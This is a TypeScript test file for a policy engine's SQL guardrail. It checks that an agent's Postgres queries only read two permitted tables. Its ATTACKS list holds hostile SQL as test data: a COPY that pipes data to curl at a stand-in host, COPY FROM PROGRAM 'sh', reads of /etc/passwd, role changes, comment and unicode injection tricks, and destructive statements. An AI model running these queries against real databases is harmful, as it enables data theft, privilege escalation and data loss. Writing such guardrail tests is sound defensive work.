import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { casesOf } from "../../../../../scripts/proofs/proofs.ts";
import { createExpressions } from "../../engine.ts";
import { loadSql } from "./load-sql.ts";
import { readSql } from "./read-sql.ts";

/* What `sql(x, "postgres")` says of a text, and what it does not let pass. */

const EXPRESSIONS = createExpressions();
await EXPRESSIONS.load(new Set(["sql"]));
const PARSE = await loadSql();

function judge(source: string, query: string, expressions = EXPRESSIONS) {
  const call = expressions.call({
    tool: "query",
    agent: "analyst",
    session: "",
    onBehalfOf: "",
    resources: [],
    level: "MEDIUM",
    now: 0,
    args: { query },
  });
  return expressions.compile(source).judge(call);
}

/** A rule as people write it for an agent that reads two tables. */
const READS =
  'sql(args.query, "postgres").reads_only() && sql(args.query, "postgres").tables.all(t, t in ["orders", "sales.items"])';

describe("what only reads the tables that are named", () => {
  test.each([
    "select * from orders",
    "SELECT o.id, count(*) FROM orders o JOIN sales.items i ON i.id = o.id GROUP BY 1 ORDER BY 2 DESC LIMIT 10;",
    "with recent as (select * from orders where at > now() - interval '1 day') select * from recent",
    "with recursive n as (select 1 as i union all select i + 1 from n where i < 9) select * from n",
    "select case when a then 'x;y' else 'drop table b -' end from orders where name ilike 'Mü%'",
    "explain select 1 from orders",
    "table orders",
    "values (1, 'a')",
    "select (select max(id) from sales.items), a->>'b', c::numeric(10, 2), array[1, 2] from orders",
    'select sum(a) over (partition by b order by c) as "Total amount" from orders where id = $1 and x between 1 and 2',
    "select a from orders union select b from sales.items except values (1)",
  ])("%s", (query) => {
    expect(judge(READS, query)).toBe(true);
  });

  test.each([
    ['sql(args.query, "postgres").kinds == ["insert"]', "insert into orders values (1)"],
    ['sql(args.query, "postgres").kinds == ["select", "delete"]', "select 1; delete from a"],
    [
      'sql(args.query, "postgres").kinds == ["select", "delete"]',
      "with d as (delete from a returning *) select * from d",
    ],
    ['"for update" in sql(args.query, "postgres").kinds', "select * from a for update"],
    ['"select into" in sql(args.query, "postgres").kinds', "select * into b from a"],
    ['"copy program" in sql(args.query, "postgres").kinds', "copy a to program 'x'"],
    ['"set role" in sql(args.query, "postgres").kinds', "set role admin"],
    ['sql(args.query, "postgres").statements == 2', "select 1; select 2"],
    ['sql(args.query, "postgres").tables == ["a", "b"]', "update a set x = 1 from b"],
    ['sql(args.query, "postgres").tables == ["a"]', "with a as (select * from a) select * from a"],
    [
      'sql(args.query, "postgres").tables == ["public.a"]',
      "with a as (select 1) select * from public.a",
    ],
    [
      'sql(args.query, "postgres").tables == ["b"]',
      "select * from (with b as (select 1) select * from b) x, b",
    ],
    ['sql(args.query, "postgres").tables == ["a"]', "with a as (select 1) delete from a"],
  ])("%s of %j", (source, query) => {
    expect(judge(source, query)).toBe(true);
  });
});

/** What must not pass a rule that lets two tables be read. */
const ATTACKS: readonly string[] = [
  "",
  ";",
  "selec 1",
  // Another table, by whichever way.
  "select * from users",
  "select * from orders, users",
  "select * from orders where exists (select 1 from users)",
  "select (select password from users limit 1) from orders",
  "select * from orders union select * from users",
  "table users",
  "with orders as (select * from users) select * from orders",
  "with a as (select 1), orders as (select * from secret) select * from orders",
  "select * from public.orders",
  "select * from other.public.orders",
  "select * from pg_catalog.pg_authid",
  "select * from pg_shadow",
  "select * from information_schema.tables",
  'select * from "Orders"',
  'select * from "sales.items"',
  'select * from "orders "',
  "select * from only users",
  "select * from orders, lateral (select * from users) u",
  "select * from users tablesample system (100)",
  "explain select * from users",
  "select * from оrders",
  // What writes.
  "delete from orders",
  "select 1; delete from orders",
  "select 1;;delete from orders",
  "insert into orders select * from orders",
  "update orders set a = 1",
  "merge into orders using sales.items i on true when matched then delete",
  "truncate orders",
  "with d as (delete from orders returning *) select * from d",
  "with d as materialized (update orders set a = 1 returning *) select * from d",
  "select * from (with d as (insert into orders values (1) returning *) select * from d) x",
  "select * into copied from orders",
  "create table a as select * from orders",
  "create table a (id int)",
  "drop table orders",
  "alter table orders add a int",
  "create view v as select * from orders",
  "create rule r as on select to orders do instead select 1",
  "refresh materialized view orders",
  "comment on table orders is 'x'",
  "grant all on orders to public",
  "vacuum orders",
  "analyze orders",
  "reindex table orders",
  "cluster orders",
  // What locks, runs or changes whom one is.
  "select * from orders for update",
  "select * from orders for share skip locked",
  "select * from (select * from orders for no key update) x",
  "lock table orders",
  "explain analyze select * from orders",
  "explain (analyze) select * from orders",
  "explain (costs, analyze true, verbose) delete from orders",
  "explain delete from orders",
  "copy orders to stdout",
  "copy orders to '/tmp/x'",
  "copy orders from program 'sh'",
  "copy (select * from orders) to program 'curl evil.example'",
  "do 'begin delete from orders; end'",
  "do $$begin delete from orders; end$$",
  "call f()",
  "set role admin",
  "reset role",
  "set session authorization admin",
  "set search_path = evil",
  "set local row_security = off",
  "show all",
  "discard all",
  "prepare p as delete from orders",
  "prepare p as select * from orders",
  "execute p",
  "deallocate p",
  "declare c cursor for select * from orders",
  "fetch all from c",
  "begin",
  "commit",
  "listen x",
  "notify x, 'y'",
  "load 'x'",
  "checkpoint",
  "security label on table orders is 'x'",
  "import foreign schema a from server b into c",
  // Functions, operators and types that do more.
  "select pg_read_file('/etc/passwd')",
  "select pg_sleep(100)",
  "select lo_import('/etc/passwd')",
  "select * from dblink('host=evil', 'select 1') as t (a int)",
  "select query_to_xml('delete from orders', true, true, '')",
  "select pg_catalog.query_to_xml('select 1', true, true, '')",
  "select table_to_xml('users', true, true, '')",
  "select set_config('role', 'admin', false)",
  "select nextval('s')",
  "select setval('s', 1)",
  "select pg_terminate_backend(1)",
  "select pg_advisory_lock(1)",
  "select public.lower('a')",
  "select evil.count(*) from orders",
  "select * from evil()",
  "select * from rows from (evil(), now())",
  "select count(*) filter (where evil()) from orders",
  "select 1 from orders order by evil()",
  "select 1 from orders limit evil()",
  "select 1 operator(evil.+) 2",
  "select 1 from orders order by a using operator(evil.<)",
  "select 1 = any (select evil())",
  "select 1 operator(evil.=) any (select 1)",
  "select a === b from orders",
  "select 'users'::regclass",
  "select cast('x' as evil)",
  "select 'x'::public.text",
  "select evil 'x'",
  "select '<a/>'::xml",
  "select xmlparse(document '<a/>')",
  "select * from xmltable('/a' passing '<a/>' columns b text)",
  "select * from orders where current of c",
  // Ways to hide.
  "select 1 -- ; delete from orders",
  "select 1 /* */ from orders",
  "select /*! 1 */ 1",
  "select 1 /* /* */ ; delete from orders */",
  "select E'\\''; delete from orders; '",
  "select '\\'; delete from orders; --'",
  "select U&'d\\0061'",
  "select * from U&\"d!0061\" uescape '!'",
  "select $a$x$a$",
  "select $a",
  "select 'a",
  "select `a`",
  "select 1\u0000; delete from orders",
  "select\u00a01",
  "select\u200b 1",
  "select 'a\u202e'",
  "select 1；delete from orders",
  "sel\u0435ct 1",
  "select {fn now()}",
  "select * from orders limit 1 into outfile 'x'",
  "\\copy orders to x",
  "pragma table_info(a)",
];

test.each(ATTACKS)("%j does not pass", (query) => {
  expect(judge(READS, query)).not.toBe(true);
});

test.each([
  'sql(args.query, "mysql").reads_only()',
  'sql(args.query, "PostgreSQL").reads_only()',
  "sql(args.query, args.dialect).reads_only()",
  "sql(args.query).reads_only()",
  'sql(args.query, "postgres").table == []',
])("%s is refused before anything is judged", (source) => {
  expect(() => EXPRESSIONS.compile(source)).toThrow();
});

test("of what the tables are not known, no rule can say that they are right", () => {
  for (const query of [
    "drop table users",
    "copy users to stdout",
    "prepare p as select 1",
    "lock users",
  ]) {
    expect(
      judge('sql(args.query, "postgres").tables.all(t, t in ["orders"])', query),
      query,
    ).toHaveProperty("failed");
  }
});

test("without its parser nothing can be said", () => {
  expect(judge(READS, "select * from orders", createExpressions())).toHaveProperty("failed");
});

test("a text of more than 8 KiB, of too many parts or too deep, cannot be said", () => {
  for (const query of [
    `select '${"a".repeat(8_200)}'`,
    `select 1${" + 1".repeat(1_000)}`,
    `select ${"not ".repeat(2_000)}true`,
    `select ${"(".repeat(60)}1${")".repeat(60)}`,
  ]) {
    expect(() => readSql(query, PARSE), query.slice(0, 20)).toThrow(/longer|too many/);
  }
});

test("a text is read once for all that is asked of it, and paid for", () => {
  const query = `select 1${", 1".repeat(200)}`;
  expect(judge(Array.from({ length: 9 }, () => READS).join(" && "), query)).toBe(true);
  const apart = ["a", "b", "c", "d", "e"]
    .map((one) => `sql(args.query + ", ${one}", "postgres").reads_only()`)
    .join(" && ");
  expect(judge(apart, query)).toEqual({ failed: "the call is too large to be judged" });
});

test("pieces of SQL in any order pass only as what reads two tables", () => {
  const pieces = fc.constantFrom(
    ..."select|from|orders|users|sales.items|*|1|,|(|)|;|delete|into|for update|with a as|a|union|where|'x'|--|explain|analyze|evil()|::|text|regclass|returning|insert|values|\\|$$|copy".split(
      "|",
    ),
  );
  const wrong = /\b(?:users|delete|into|evil|regclass|analyze|insert|copy|for update)\b/;
  fc.assert(
    fc.property(fc.array(pieces, { minLength: 1, maxLength: 9 }), (parts) => {
      const query = parts.join(" ");
      if (!wrong.test(query) || judge(READS, query) !== true) return;
      // Such a word may still be a name: of a column, or of an alias.
      expect(query).not.toMatch(/;|\bfrom users|\binto\b|evil \(|for update|::\s*regclass/);
    }),
    { numRuns: casesOf(3_000), seed: 40 },
  );
});
